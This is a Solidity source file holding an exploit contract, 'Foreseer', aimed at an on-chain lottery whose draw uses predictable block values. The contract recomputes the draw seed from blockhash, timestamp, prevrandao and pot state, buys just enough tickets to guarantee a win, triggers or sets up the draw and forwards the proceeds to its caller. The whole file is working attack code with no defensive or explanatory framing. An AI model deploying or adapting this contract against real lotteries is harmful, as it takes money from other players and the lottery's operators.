// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPot {
    function buy(uint256 count) external payable;

    function buyFor(address player, uint256 count) external payable;

    function draw() external returns (address);

    function ticketCount() external view returns (uint256);

    function current() external view returns (uint256);

    function price() external view returns (uint256);
}

/// Works out what a draw of this very block would yield, and takes just as many tickets as make it win.
contract Foreseer {
    error NoLuck();

    function run(IPot pot) external payable {
        uint256 count = winning(pot);
        pot.buy{value: count * pot.price()}(count);
        pot.draw();
        payable(msg.sender).transfer(address(this).balance);
    }

    /// Tickets in the name of whoever calls, one by one.
    function runFor(IPot pot) external payable {
        uint256 count = winning(pot);
        uint256 price = pot.price();
        for (uint256 i = 0; i < count; i++) pot.buyFor{value: price}(msg.sender, 1);
        require(pot.draw() == msg.sender, "lost");
        payable(msg.sender).transfer(address(this).balance);
    }

    /// Only buys; somebody else draws later in the block.
    function prepare(IPot pot, address player) external payable {
        uint256 count = winning(pot);
        pot.buyFor{value: count * pot.price()}(player, count);
        payable(msg.sender).transfer(address(this).balance);
    }

    function winning(IPot pot) private view returns (uint256) {
        uint256 tickets = pot.ticketCount();
        bytes memory entropy = abi.encodePacked(
            blockhash(block.number - 1),
            block.timestamp,
            block.prevrandao,
            pot.current()
        );
        uint256 seed = uint256(keccak256(entropy));
        for (uint256 count = 1; count <= 20; count++) if (seed % (tickets + count) >= tickets) return count;
        revert NoLuck();
    }

    receive() external payable {}
}
